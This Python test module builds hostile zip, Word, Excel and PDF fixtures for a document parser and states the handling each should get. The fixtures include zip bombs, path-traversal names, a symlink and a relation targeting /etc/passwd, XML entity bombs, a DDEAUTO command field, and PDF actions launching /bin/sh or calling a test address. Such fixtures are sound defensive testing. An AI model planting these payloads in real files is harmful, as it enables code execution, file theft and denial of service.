"""Archives, Office files and PDF that are mean, and what nobody reads: what becomes of each stands beside it."""

import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO
from typing import Final

from tests.formats.documents import Words, excel, pdf, word, zipped
from tests.services.hostile import SENTENCE, Hostile
from tests.services.hostile_texts import BOMB, HOST, OUTSIDE

COMPOUND: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LOCKED: Final = COMPOUND + bytes(999) + "EncryptedPackage".encode("utf-16-le")
TYPES: Final = {"[Content_Types].xml": ""}
SHEET: Final = "xl/worksheets/sheet1.xml"
LOCAL: Final = b"PK\x03\x04"
LISTED: Final = b"PK\x01\x02"
TARGET: Final = "Target="


def archives() -> Iterator[Hostile]:
    """Zip."""
    sound = zipped({"a.txt": SENTENCE})
    yield Hostile("zeros.zip", zipped({"a.txt": bytes(40_000_000)}), "unsafe")
    yield Hostile("nested.zip", zipped({"a.zip": zipped({"b.zip": zipped({"c.txt": SENTENCE})})}), "nested")
    yield Hostile(
        "nested others.zip",
        zipped({"a.tar": b"a", "b.7z": b"b", "c.gz": b"c", "d.txt": SENTENCE}),
        "nested taken",
    )
    names = ("../../out.txt", "/etc/out.txt", "\\\\host\\out.txt", "C:\\out.txt", "a/../../out.txt")
    yield Hostile("out.zip", zipped({name: f"{SENTENCE}{name}" for name in names}), "taken")
    yield Hostile("same.zip", zipped({"a.txt": SENTENCE, "A.TXT": SENTENCE, "./a.txt": SENTENCE}), "taken")
    yield Hostile("many.zip", zipped({f"{number}.txt": "" for number in range(300)}), "empty")
    yield Hostile("long name.zip", zipped({f"{'a' * 60_000}.txt": SENTENCE}), "taken")
    yield Hostile("nul name.zip", zipped({"a.txt\0.exe": SENTENCE}), "taken")
    yield Hostile(
        "strange names.zip",
        zipped({"\n.txt": SENTENCE, "\u202etxt.exe.txt": SENTENCE, "con.txt": SENTENCE}),
        "taken",
    )
    yield Hostile("link.zip", _with_link(), "taken")
    yield Hostile("folders.zip", zipped({f"{'a/' * depth}": "" for depth in range(1, 300)}), "no_articles")
    yield Hostile("nothing.zip", b"PK\5\6" + bytes(18), "no_articles")
    yield Hostile("locked.zip", _changed(sound, (LOCAL, 6, b"\1\0"), (LISTED, 8, b"\1\0")), "encrypted")
    yield Hostile("method.zip", _changed(sound, (LOCAL, 8, b"\x63\0"), (LISTED, 10, b"\x63\0")), "damaged")
    yield Hostile("sum.zip", _changed(sound, (LOCAL, 14, b"abcd"), (LISTED, 16, b"abcd")), "damaged")
    yield Hostile("promises.zip", _changed(sound, (LISTED, 24, struct.pack("<I", 0x7FFFFFFF))), "unsafe")
    yield Hostile("says less.zip", _changed(sound, (LISTED, 24, struct.pack("<I", 1))), "damaged")
    yield Hostile("elsewhere.zip", _changed(sound, (LISTED, 42, struct.pack("<I", 0x7FFFFFFF))), "damaged")
    yield Hostile("overlapping.zip", _overlapping(sound, 500), "taken")
    yield Hostile("in front.zip", b"MZ" + bytes(999) + sound, "not_text")
    yield Hostile("behind.zip", sound + bytes(999), "taken")
    yield Hostile(
        "only articles nobody reads.zip", zipped({"a.jpg": b"a", "b.rtf": b"{\\rtf1"}), "no_articles"
    )


def documents() -> Iterator[Hostile]:
    """Word."""
    yield Hostile("locked.docx", LOCKED, "encrypted")
    yield Hostile("bomb.docx", word(SENTENCE, before=f"{BOMB}]>"), "unsafe")
    yield Hostile("outside.docx", word(SENTENCE, before=OUTSIDE), "unsafe")
    yield Hostile("zeros.docx", zipped(TYPES | {"word/document.xml": bytes(40_000_000)}), "unsafe")
    yield Hostile("small zeros.docx", zipped(TYPES | {"word/document.xml": bytes(1_000_000)}), "damaged")
    yield Hostile("no document.docx", zipped(TYPES | {"word/other.xml": "<a/>"}), "unknown_format")
    yield Hostile(
        "both.docx", zipped(TYPES | {"word/document.xml": "<a/>", "xl/workbook.xml": "<a/>"}), "empty"
    )
    yield Hostile(
        "other root.docx", zipped(TYPES | {"word/document.xml": "<html><body>a</body></html>"}), "empty"
    )
    yield Hostile(
        "macros.docm", _with(word(f"{SENTENCE}一"), {"word/vbaProject.bin": COMPOUND + bytes(99)}), "taken"
    )
    relations = f"<Relationships><Relationship Id='a' Type='attachedTemplate' {TARGET}'{HOST}/a.dotm' TargetMode='External'/></Relationships>"
    yield Hostile(
        "template.docx", _with(word(f"{SENTENCE}二"), {"word/_rels/settings.xml.rels": relations}), "taken"
    )
    yield Hostile(
        "field.docx",
        word("<w:r><w:instrText>DDEAUTO c:\\\\a.exe</w:instrText></w:r>", f"{SENTENCE}三"),
        "taken",
    )
    yield Hostile("part.docx", word("<w:altChunk r:id='a' xmlns:r='b'/>", f"{SENTENCE}四"), "taken")
    yield Hostile("deep.docx", word("<w:p>" * 5_000 + "</w:p>" * 5_000), "damaged")
    table = "<w:tbl><w:tr><w:tc>"
    yield Hostile(
        "tables.docx",
        word(table * 60 + f"<w:p><w:r><w:t>{SENTENCE}五</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 60),
        "taken",
    )
    yield Hostile("signs.docx", word("<w:r><w:t>&#0;&#xFFFF;</w:t></w:r>"), "damaged")
    yield Hostile("symbols.docx", word("<w:r><w:sym w:char='ZZZZ'/><w:sym/></w:r>", f"{SENTENCE}六"), "taken")
    yield Hostile("empty.docx", word(""), "empty")
    yield Hostile(
        "out.docx", _with(word(f"{SENTENCE}七"), {"../../out.xml": "a", "/etc/out.xml": "a"}), "taken"
    )
    yield Hostile("twice.docx", _with(word(f"{SENTENCE}八"), {"WORD/DOCUMENT.XML": "<a/>"}), "taken")


def workbooks() -> Iterator[Hostile]:
    """Excel."""
    sound = excel([("title", "text"), ("minato", "said")])
    yield Hostile("locked.xlsx", LOCKED + b"a", "encrypted")
    yield Hostile(
        "bomb.xlsx", zipped(TYPES | {"xl/workbook.xml": f"{BOMB}]><workbook>&m;</workbook>"}), "damaged"
    )
    yield Hostile("zeros.xlsx", zipped(TYPES | {"xl/workbook.xml": bytes(40_000_000)}), "unsafe")
    yield Hostile("formula.xlsx", excel([("本文",), (f'=HYPERLINK("{HOST}/a")',), ("=1+1",)]), "empty")
    yield Hostile("no body.xlsx", excel([("名前", "金額"), ("甲", 1)]), "no_column")
    yield Hostile("heading only.xlsx", excel([("本文",)]), "empty")
    yield Hostile(
        "many sheets.xlsx", excel(*([("本文",), (f"{SENTENCE}{one}",)] for one in range(100))), "taken"
    )
    yield Hostile("numbers.xlsx", excel([("本文",), (1,), (True,), (1e300,)]), "taken")
    yield Hostile("macros.xlsm", _with(sound, {"xl/vbaProject.bin": COMPOUND + bytes(999)}), "taken")
    yield Hostile("out.xlsx", _with(sound, {"../../out.xml": "a"}), "taken")
    bomb = _edited(sound, SHEET, "<worksheet", f"{BOMB}]><worksheet")
    yield Hostile("sheet bomb.xlsx", _edited(bomb, SHEET, "said", "&m;"), "damaged")
    outside = _edited(sound, SHEET, "<worksheet", f"{OUTSIDE}<worksheet")
    yield Hostile("outside.xlsx", _edited(outside, SHEET, "said", "&a;"), "damaged")
    words, far = 't="inlineStr"><is><t>said</t></is>', 't="s"><v>99999999</v>'
    yield Hostile("far words.xlsx", _edited(sound, SHEET, words, far), "damaged")
    yield Hostile("no number.xlsx", _edited(sound, SHEET, words, 't="n"><v>nan</v>'), "damaged")
    yield Hostile("errors.xlsx", _edited(sound, SHEET, words, 't="e"><v>#REF!</v>'), "taken")
    yield Hostile(
        "far cell.xlsx",
        _edited(sound, SHEET, "</sheetData>", '<row r="1048576"><c r="XFD1048576"/></row></sheetData>'),
        "taken",
    )
    yield Hostile("no such cell.xlsx", _edited(sound, SHEET, 'r="A1"', 'r="ZZZZZ99999999999"'), "damaged")
    yield Hostile(
        "elsewhere.xlsx",
        _edited(
            sound,
            "xl/_rels/workbook.xml.rels",
            TARGET + '"/xl/worksheets/sheet1.xml"',
            TARGET + '"file:///etc/passwd"',
        ),
        "damaged",
    )
    yield Hostile(
        "on the web.xlsx",
        _edited(
            sound,
            "xl/_rels/workbook.xml.rels",
            TARGET + '"/xl/worksheets/sheet1.xml"',
            TARGET + f'"{HOST}/a.xml" TargetMode="External"',
        ),
        "damaged",
    )
    yield Hostile("deep.xlsx", _edited(sound, SHEET, "</sheetData>", "<row>" * 20_000), "damaged taken")
    row = f"<row>{'<c/>' * 2000}</row>"
    yield Hostile("ten million cells.xlsx", _edited(sound, SHEET, "</sheetData>", row * 5000), "unsafe")


def printed() -> Iterator[Hostile]:
    """PDF."""
    locked = f"/Encrypt<</Filter/Standard/V 1/R 2/O<{'ab' * 32}>/U<{'cd' * 32}>/P -4>>/ID[<00><00>]"
    yield Hostile("locked.pdf", pdf([], trailer=locked), "encrypted")
    yield Hostile("unheard.pdf", pdf([], trailer="/Encrypt<</Filter/Klingon>>/ID[<00><00>]"), "encrypted")
    yield Hostile("itself.pdf", pdf([], form="/X Do"), "only_images")
    yield Hostile("images.pdf", pdf([], [], []), "only_images")
    said = [Words(50, 700, SENTENCE)]
    sound = pdf(said)
    yield Hostile(
        "script.pdf",
        sound.replace(
            b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1'\\))>>"
        ),
        "taken",
    )
    yield Hostile(
        "launch.pdf", sound.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(/bin/sh)>>"), "taken"
    )
    yield Hostile("pages of themselves.pdf", sound.replace(b"/Kids[4 0 R]", b"/Kids[2 0 R 4 0 R]"), "taken")
    yield Hostile("no pages.pdf", sound.replace(b"/Kids[4 0 R]", b"/Kids[]"), "taken")
    yield Hostile("counts.pdf", sound.replace(b"/Count 1", b"/Count 999999999"), "taken")
    yield Hostile("no page.pdf", sound.replace(b"/Kids[4 0 R]", b"/Kids[(a) 9 0 R null]"), "damaged")
    yield Hostile("long box.pdf", sound.replace(b"[0 0 600 800]", b"[0 0 1e308 -1e308]"), "taken")
    yield Hostile("no box.pdf", sound.replace(b"[0 0 600 800]", b"[(a) null /b]"), "taken")
    yield Hostile("before itself.pdf", sound.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9"), "taken")
    yield Hostile("arrays.pdf", sound.replace(b"/Root 1 0 R", b"/Root 1 0 R/A" + b"[" * 50_000), "damaged")
    yield Hostile("no end.pdf", sound.replace(b"%%EOF", b""), "damaged")
    yield Hostile("head only.pdf", b"%PDF-1.7\n%%EOF", "damaged")
    yield Hostile("far table.pdf", sound.replace(b"startxref\n", b"startxref\n99999999999999999999"), "taken")
    yield Hostile("length.pdf", sound.replace(b"/Length ", b"/Length 99999"), "taken")
    yield Hostile("filter.pdf", sound.replace(b"<</Length", b"<</Filter/Klingon/Length"), "damaged")
    yield Hostile(
        "filters.pdf",
        sound.replace(b"<</Length", b"<</Filter[" + b"/ASCIIHexDecode" * 5_000 + b"]/Length"),
        "damaged",
    )
    yield Hostile("turned.pdf", sound.replace(b"/MediaBox", b"/Rotate 45/MediaBox"), "taken")
    yield Hostile("states.pdf", _drawn(b"q " * 20_000), "only_images")
    yield Hostile("operands.pdf", _drawn(b"1 " * 20_000 + b"Tj ( Tj <ZZ> Tj ET BT"), "only_images")
    yield Hostile("fonts.pdf", _drawn(b"BT /F 1e308 Tf 1e308 0 0 1e308 1e308 1e308 Tm (a) Tj ET"), "taken")
    yield Hostile("zeros.pdf", _drawn(zlib.compress(bytes(500_000)), b"/Filter/FlateDecode"), "only_images")
    yield Hostile(
        "codes.pdf", sound.replace(b"/Subtype/Type0", b"/Subtype/Type0/ToUnicode 1 0 R"), "only_images"
    )
    yield Hostile(
        "no font.pdf", sound.replace(b"/Type/Font/Subtype/Type0", b"/Type/Font/Subtype/Type9"), "only_images"
    )


def others() -> Iterator[Hostile]:
    """What nobody reads, under its own name and under that of an article."""
    for name in ("doc", "xls", "ppt", "msg"):
        yield Hostile(f"old.{name}", COMPOUND + bytes(999) + name.encode(), "unknown_format")
    for number, part in enumerate(("ppt/presentation.xml", "word/nothing.xml", "visio/document.xml")):
        yield Hostile(f"office{number}.pptx", zipped(TYPES | {part: ""}), "unknown_format")
    for name, kind in (("odt", "text"), ("ods", "spreadsheet"), ("odp", "presentation")):
        yield Hostile(
            f"open.{name}",
            zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}"}),
            "unknown_format",
        )
    yield Hostile("book.epub", zipped({"mimetype": "application/epub+zip"}), "unknown_format")
    yield Hostile("a.rtf", b"{\\rtf1 a}", "unknown_format")
    for name, mark in (
        ("7z", b"7z\xbc\xaf\x27\x1c"),
        ("rar", b"Rar!\x1a\x07"),
        ("gz", b"\x1f\x8b"),
        ("bz2", b"BZh"),
        ("xz", b"\xfd7zXZ\x00"),
    ):
        yield Hostile(f"a.{name}", mark + bytes(99), "unknown_format")
    for name in ("txt", "html", "pdf", "docx", "xlsx", "zip", "eml", "csv", "xml", "md"):
        is_page = name == "html"
        picture = b"\xff\xd8\xff\xe0" + name.encode() + bytes(range(256)) * 9
        yield Hostile(f"picture.{name}", picture, "unknown_encoding" if is_page else "not_text")


def _with(data: bytes, members: dict[str, str | bytes]) -> bytes:
    """The package with other members in it."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return zipped({info.filename: archive.read(info) for info in archive.infolist()} | members)


def _edited(data: bytes, name: str, old: str, new: str) -> bytes:
    """The package with other words in a member."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        text = archive.read(name).decode("utf-8")
    assert old in text, (name, text)
    return _with(data, {name: text.replace(old, new)})


def _changed(data: bytes, *changes: tuple[bytes, int, bytes]) -> bytes:
    """The archive with other bytes so far behind the first of these marks."""
    changed = bytearray(data)
    for mark, offset, bytes_there in changes:
        place = changed.index(mark) + offset
        changed[place : place + len(bytes_there)] = bytes_there
    return bytes(changed)


def _with_link() -> bytes:
    """An archive with a symbolic link to a file of the system."""
    data = BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return data.getvalue()


def _overlapping(sound: bytes, times: int) -> bytes:
    """An archive whose list names the same member again and again."""
    begin, end = sound.index(LISTED), sound.index(b"PK\5\6")
    entry = sound[begin:end]
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, times, times, len(entry) * times, begin, 0)
    return sound[:begin] + entry * times + tail


def _drawn(content: bytes, entries: bytes = b"") -> bytes:
    """A PDF of one page with this content."""
    return (
        b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>endobj\n"
        b"4 0 obj<<%s/Length %d>>stream\n%s\nendstream endobj\n"
        % (entries, len(content), content)
        + b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )
